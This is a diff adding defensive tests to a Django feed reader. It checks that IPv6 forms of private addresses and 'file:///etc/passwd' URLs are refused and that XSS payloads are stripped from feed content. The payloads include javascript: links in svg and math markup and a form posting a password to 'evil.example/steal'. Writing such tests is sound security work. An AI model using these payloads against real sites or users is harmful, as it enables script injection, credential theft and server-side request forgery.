@@ -10,7 +10,9 @@ import time
 
 import pytest
 
+from djangofeeds import fetch
 from djangofeeds.models import Feed, InvalidFeedURL, Outcome, Post
+from djangofeeds.parse import parse
 from tests.hostile.helpers import (
     LAUGHS,
     bomb,
@@ -24,6 +26,8 @@ from tests.support.feed_server import http_date, numbered_items, rss
 from tests.support.services import free_port
 
 pytestmark = pytest.mark.django_db
+
+WEEK_SECONDS, WEEK_MINUTES = 7 * 24 * 3600, 7 * 24 * 60
 
 
 def imported(url, created):
@@ -198,6 +202,32 @@ def test_a_redirect_to_a_private_address_and_to_file(feed_server, public_loopbac
 @pytest.mark.parametrize(
     "url",
     [
+        "http://[::7f00:1]/feed.xml",
+        "http://[2002:7f00:1::1]/feed.xml",
+        "http://[64:ff9b::a00:1]/feed.xml",
+        "http://[64:ff9b:1::a00:1]/feed.xml",
+        "http://[fec0::1]/feed.xml",
+    ],
+    ids=["ipv4-compatible", "6to4", "nat64", "local-use-nat64", "site-local"],
+)
+def test_ipv6_literals_that_carry_a_private_ipv4_address(settings, url):
+    """IPv6 spellings of 127.0.0.1 and 10.0.0.1, and site-local addresses, are refused unfetched."""
+    settings.DJANGOFEEDS_ALLOW_PRIVATE_HOSTS = False
+
+    assert "is a non-public address" in (fetch.url_problem(url) or "")
+    refused(url, "is a non-public address")
+
+
+@pytest.mark.parametrize(
+    "address", ["::808:808", "2002:808:808::1", "64:ff9b::808:808", "2606:4700::1111"]
+)
+def test_ipv6_forms_of_public_addresses_stay_public(address):
+    assert fetch.is_public(address)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
         "file:///etc/passwd",
         "ftp://ftp.example.com/feed.xml",
         "javascript:alert(document.cookie)",
@@ -349,13 +379,40 @@ def test_script_onerror_and_javascript_links_in_content(feed_server, client):
 
     post = Post.objects.get()
     assert post.link == "" and "<b>kept</b>" in post.content
-    for unsafe in ("<script", "onclick", "onerror", "onload", "javascript:", "<iframe"):
+    for unsafe in ("<script", "onclick", "onerror", "onload", "<iframe"):
         assert unsafe not in post.content.lower()
+    # "&#106;avascript:..." has no scheme: feedparser made it a path under the
+    # feed's URL (http://host/javascript:alert...), which runs nothing.
+    assert injected(post.content) == []
     for page in ("/feeds/", post.feed.get_absolute_url()):
         response = client.get(page)
         assert response.status_code == 200
         assert injected(response.content.decode()) == []
         assert "&lt;script&gt;alert(" in response.content.decode()  # the title, as text
+
+
+def test_svg_math_and_form_payloads_in_content(feed_server, client):
+    """feedparser keeps javascript: links in <svg> and <math>, and forms; the allowlist does not."""
+    html = (
+        "<svg><a xlink:href=\"javascript:alert('xss-1')\"><text>svg</text></a></svg>"
+        "<math><mi xlink:href=\"javascript:alert('xss-2')\">m</mi></math>"
+        '<math><maction actiontype="statusline" xlink:href="javascript:alert(\'xss-3\')">'
+        "x</maction></math>"
+        '<form action="https://evil.example/steal"><input name="password" type="password">'
+        "<button formaction=\"javascript:alert('xss-4')\">Log in</button></form>"
+        '<p><a href="https://example.com/">kept</a></p>'
+    )
+    item = {"guid": "svg", "title": "Shapes", "description": f"<![CDATA[{html}]]>"}
+    imported(feed_server.serve("/svg.xml", rss([item])), created=1)
+
+    post = Post.objects.get()
+    for unsafe in ("javascript:", "<svg", "<math", "<form", "<input", "<button"):
+        assert unsafe not in post.content.lower()
+    assert '<a href="https://example.com/" rel="noopener noreferrer nofollow">kept</a>' in (
+        post.content
+    )
+    response = client.get(post.feed.get_absolute_url())
+    assert response.status_code == 200 and injected(response.content.decode()) == []
 
 
 @pytest.mark.parametrize(
@@ -471,3 +528,46 @@ def test_a_tls_handshake_failure(feed_server):
     refused(f"https://127.0.0.1:{feed_server.port}/tls.xml", "TLS with 127.0.0.1 failed")
 
     assert feed_server.hits("/tls.xml") == 0
+
+
+@pytest.mark.parametrize(
+    ("retry_after", "wait"),
+    [("²", None), ("99999999999999999999", None), ("9999999999", WEEK_SECONDS)],
+    ids=["superscript-two", "twenty-digits", "over-a-week"],
+)
+def test_a_retry_after_that_is_no_sane_number(feed_server, retry_after, wait):
+    """Digits int() refuses and twenty-digit numbers are no answer; a week is the longest wait."""
+    url = feed_server.serve("/busy.xml", "busy", status=503, headers={"Retry-After": retry_after})
+
+    result, run = import_run(url)
+
+    assert run.outcome == Outcome.FAILED and result.transient and readable(run.error)
+    assert result.retry_after == wait
+
+
+@pytest.mark.parametrize(
+    ("cache_control", "max_age"),
+    [
+        ("max-age=1e14", None),
+        ("max-age=²", None),
+        ("max-age=99999999999999", WEEK_SECONDS),
+        ("public, max-age=600", 600),
+    ],
+    ids=["exponent", "superscript-two", "fourteen-digits", "plain"],
+)
+def test_a_max_age_that_is_no_sane_number(feed_server, cache_control, max_age):
+    url = feed_server.serve(
+        "/cc.xml", rss(numbered_items(1)), headers={"Cache-Control": cache_control}
+    )
+
+    assert fetch.fetch(url).max_age == max_age
+
+
+@pytest.mark.parametrize(
+    ("ttl", "minutes"),
+    [("99999999999999", WEEK_MINUTES), ("9" * 5000, WEEK_MINUTES), ("²", None), ("90", 90)],
+    ids=["fourteen-digits", "5000-digits", "superscript-two", "plain"],
+)
+def test_a_ttl_that_is_no_sane_number(ttl, minutes):
+    """An RSS <ttl> is whole minutes, a week at most."""
+    assert parse(rss(numbered_items(1), ttl=ttl)).ttl_minutes == minutes
